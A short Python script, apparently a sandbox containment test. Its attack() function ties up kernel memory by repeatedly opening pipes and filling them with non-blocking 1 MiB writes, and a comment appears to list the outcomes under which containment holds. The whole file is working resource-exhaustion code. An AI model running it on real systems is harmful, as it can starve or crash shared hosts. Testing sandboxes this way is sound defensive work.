"""Goal: keep kernel memory busy by full pipes"""
# held: refused crashed timeout

import os

def attack():
    kept = 0
    try:
        while kept < 1 << 30:
            _, write = os.pipe()
            os.set_blocking(write, False)
            kept += os.write(write, bytes(1 << 20))
    except OSError:
        pass
    return kept > 64 << 20
